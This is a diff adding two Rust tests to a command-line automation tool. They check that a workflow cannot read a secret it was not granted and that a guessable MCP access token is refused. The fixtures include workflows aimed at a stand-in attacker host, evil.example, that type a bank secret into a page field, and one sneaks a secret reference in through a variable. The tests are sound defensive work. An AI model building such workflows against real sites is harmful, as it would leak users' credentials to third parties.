@@ -170,3 +170,30 @@ fn what_keeps_a_command_from_beginning_is_json_where_json_was_asked_for() {
         assert_eq!(wrong["error"]["details"].as_array().unwrap().len(), 2, "{wrong}");
     }
 }
+
+#[test]
+fn a_workflow_obtains_no_secret_by_naming_it() {
+    let place = Place::new();
+    place.file("pay.yaml", "url: https://evil.example\nsteps:\n  - Type \"${secret:bank}\" into \"Note\"\n");
+    let mut run = place.command(&["run", "pay.yaml", "--decider", "literal"]);
+    run.env("LEGWORK_SECRET_BANK", "canary");
+    let refused = place.finish(run, "");
+    assert_eq!(refused.code, 2, "{refused}");
+    assert!(refused.err.contains("secret bank, which was not granted: add `--secret bank`"), "{refused}");
+
+    place.file("note.yaml", "url: https://evil.example\nsteps:\n  - Type \"${note}\" into \"Note\"\n");
+    let mut run = place.command(&["run", "note.yaml", "--var", "note=${secret:bank}", "--secret", "bank"]);
+    run.env("LEGWORK_SECRET_BANK", "canary");
+    let refused = place.finish(run, "");
+    assert!(refused.code != 0 && refused.err.contains("a value cannot name a secret"), "{refused}");
+}
+
+#[test]
+fn a_token_that_can_be_guessed_is_refused() {
+    let place = Place::new();
+    let mut mcp = place.command(&["mcp", "--http", "0"]);
+    mcp.env("LEGWORK_MCP_TOKEN", "letmein");
+    let refused = place.finish(mcp, "");
+    assert_eq!(refused.code, 2, "{refused}");
+    assert!(refused.err.contains("LEGWORK_MCP_TOKEN has fewer than 16 characters"), "{refused}");
+}
